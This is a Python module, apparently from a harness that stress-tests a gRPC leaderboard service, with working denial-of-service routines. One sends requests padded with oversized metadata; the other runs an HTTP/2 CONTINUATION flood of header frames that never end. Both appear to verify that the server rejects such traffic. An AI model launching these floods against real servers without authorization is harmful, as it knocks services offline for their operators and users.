"""Metadata of any size, and headers that never end."""

import itertools

from attacks.attacker import Attacker, Fleet
from attacks.connection import Connection, Status
from attacks.frames import MAX_PAYLOAD, Call, Kind, frame, header_block
from attacks.paths import TOP
from leaderboard.v1 import leaderboard_pb2 as pb

_CALLS_A_SECOND = 100
_FRAMES_A_SECOND = 1_000
_MAX_UNANSWERED = 100
_KIB = 1_024
_REFUSED_KIB = (17, 20, 24, 31, 33, 40, 48, 56, 60)
"""Sizes over the limit of 16 KiB; each gets the status of its call."""
_TOO_LARGE_KIB = (66, 80, 128, 512)
"""Sizes that need no status: HTTP 431, or the end of the connection."""
_RESOURCE_EXHAUSTED = "8"


async def large_metadata(attacker: Attacker) -> None:
    """Send calls with 17 to 60 KiB of metadata, and on other connections with far more."""
    refused = [_call(kib) for kib in _REFUSED_KIB]
    too_large = [_call(kib) for kib in _TOO_LARGE_KIB]
    checked = Fleet(attacker, size=2, decoding=True)
    unchecked = Fleet(attacker, size=2)
    numbers = itertools.count()
    async for due in attacker.ticks(_CALLS_A_SECOND):
        for number in itertools.islice(numbers, due):
            calls, fleet = (too_large, unchecked) if number % 3 == 0 else (refused, checked)
            connection = fleet.next()
            if connection and len(connection.open) < _MAX_UNANSWERED:
                connection.call(calls[number % len(calls)])
        for connection in checked.connections:
            _check(attacker, connection)


def _call(kib: int) -> Call:
    fields = tuple((f"x-{number}", "~" * (_KIB - 40)) for number in range(kib))
    request = pb.GetTopUsersRequest(contest_id="good")
    return Call(TOP, request.SerializeToString(), fields=fields)


def _check(attacker: Attacker, connection: Connection) -> None:
    for status in connection.statuses:
        attacker.tally[f"status_{status.grpc}"] += 1
        if status != Status(status.http, _RESOURCE_EXHAUSTED, has_details=True):
            attacker.broken[f"17 to 60 KiB of metadata: {status}"] += 1
    connection.statuses.clear()


async def continuation_flood(attacker: Attacker) -> None:
    """Send headers that go on for ever, in full frames and in empty ones."""
    start = header_block(TOP)
    more = header_block(TOP, (("x", "y" * (4 * MAX_PAYLOAD)),))[:MAX_PAYLOAD]
    fleet = Fleet(attacker, size=4)
    begun: set[Connection] = set()
    async for due in attacker.ticks(_FRAMES_A_SECOND):
        begun = {connection for connection in begun if not connection.lost}
        for number, connection in enumerate(fleet.connections):
            if connection not in begun:
                begun.add(connection)
                stream = connection.next_stream()
                connection.send(frame(Kind.HEADERS, 0, stream, start))
            payload = more if number % 2 else b""
            if not connection.congested:
                flood = frame(Kind.CONTINUATION, 0, 1, payload) * (due // 4 + 1)
                connection.send(flood)
                attacker.tally["flood_bytes"] += len(flood)
